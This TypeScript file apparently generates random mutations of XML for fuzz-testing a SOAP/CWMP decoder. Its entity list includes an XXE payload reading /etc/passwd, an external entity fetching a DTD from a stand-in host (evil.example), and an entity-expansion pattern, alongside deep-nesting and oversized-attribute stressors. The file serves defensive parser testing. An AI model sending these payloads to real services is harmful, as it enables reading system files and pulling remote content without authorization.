/** Seeded random mutations of XML text, for the decoder's fuzz test. */

type Rng = () => number;
const int = (rng: Rng, n: number): number => Math.floor(rng() * n);
const pick = <T>(rng: Rng, items: readonly T[]): T => items[int(rng, items.length)] as T;

const SPECIAL = [
  '<',
  '>',
  '&',
  '/',
  '"',
  "'",
  '=',
  ' ',
  ':',
  '!',
  '?',
  '[',
  ']',
  ';',
  '#',
  '\0',
  '\uFFFF',
  'é',
];

const ENTITY_TRICKS = [
  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
  '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">',
  '&xxe;',
  '&a;',
  '&#x110000;',
  '&#0;',
  '&#60;',
  '&#x3C;',
  '&amp;#60;',
  '&amp;lt;',
  '&lt;!DOCTYPE x&gt;',
  '<![CDATA[<!ENTITY x "y">]]>',
  '<![CDATA[]]>]]>',
  '&',
  '&#;',
  '&#x;',
  '&lt',
  '<?xml version="1.0"?>',
  '<!-- -- -->',
];

export type Mutation = (xml: string, rng: Rng) => string;

export const MUTATIONS: Record<string, Mutation> = {
  flip: (xml, rng) => {
    const at = int(rng, xml.length);
    const by = rng() < 0.5 ? pick(rng, SPECIAL) : String.fromCharCode(int(rng, 0x80));
    return xml.slice(0, at) + by + xml.slice(at + 1);
  },
  truncate: (xml, rng) => xml.slice(0, int(rng, xml.length)),
  deleteSpan: (xml, rng) => {
    const at = int(rng, xml.length);
    return xml.slice(0, at) + xml.slice(at + 1 + int(rng, 40));
  },
  duplicateTag: (xml, rng) => {
    const at = xml.indexOf('<', int(rng, xml.length));
    const end = at === -1 ? -1 : xml.indexOf('>', at);
    if (end === -1) return xml;
    const tag = xml.slice(at, end + 1);
    return xml.slice(0, at) + tag.repeat(1 + int(rng, 3)) + xml.slice(at);
  },
  duplicateElement: (xml, rng) => {
    // Copies a random span starting at a tag: may or may not be a whole element.
    const at = xml.indexOf('<', int(rng, xml.length));
    if (at === -1) return xml;
    const span = xml.slice(at, at + 1 + int(rng, 400));
    return xml.slice(0, at) + span + xml.slice(at);
  },
  deepNesting: (xml, rng) => {
    const at = xml.indexOf('>', int(rng, xml.length));
    if (at === -1) return xml;
    const depth = 1 + int(rng, 5000);
    const name = pick(rng, ['a', 'cwmp:Inform', 'Body', 'x:y']);
    const open = `<${name}>`.repeat(depth);
    const close = rng() < 0.8 ? `</${name}>`.repeat(depth) : '';
    return xml.slice(0, at + 1) + open + close + xml.slice(at + 1);
  },
  hugeAttribute: (xml, rng) => {
    const at = xml.indexOf('>', int(rng, xml.length));
    if (at === -1) return xml;
    const value = pick(rng, ['A', '&amp;', '&#65;', '<', '"']).repeat(1 + int(rng, 50_000));
    return xml.slice(0, at) + ` x${int(rng, 9)}="${value}"` + xml.slice(at);
  },
  entityTrick: (xml, rng) => {
    const trick = pick(rng, ENTITY_TRICKS);
    const at = rng() < 0.2 ? 0 : int(rng, xml.length);
    return xml.slice(0, at) + trick + xml.slice(at);
  },
  swapSpans: (xml, rng) => {
    const a = int(rng, xml.length);
    const b = int(rng, xml.length);
    const [from, to] = a < b ? [a, b] : [b, a];
    const len = Math.min(1 + int(rng, 30), to - from);
    return (
      xml.slice(0, from) +
      xml.slice(to, to + len) +
      xml.slice(from + len, to) +
      xml.slice(from, from + len) +
      xml.slice(to + len)
    );
  },
  renamePrefix: (xml, rng) => {
    const prefix = pick(rng, ['cwmp:', 'SOAP-ENV:', 'soap-env:', 'soap:', 's:']);
    return xml.split(prefix).join(pick(rng, ['', 'x:', 'cwmp:', 'ns1:']));
  },
};

const NAMES = Object.keys(MUTATIONS);

/** One to three random mutations of `xml`; returns the mutated text and what was applied. */
export function mutate(xml: string, rng: Rng): { xml: string; applied: string[] } {
  const applied: string[] = [];
  let out = xml;
  for (let n = 1 + int(rng, 3); n > 0; n--) {
    const name = pick(rng, NAMES);
    applied.push(name);
    out = (MUTATIONS[name] as Mutation)(out, rng);
  }
  return { xml: out, applied };
}
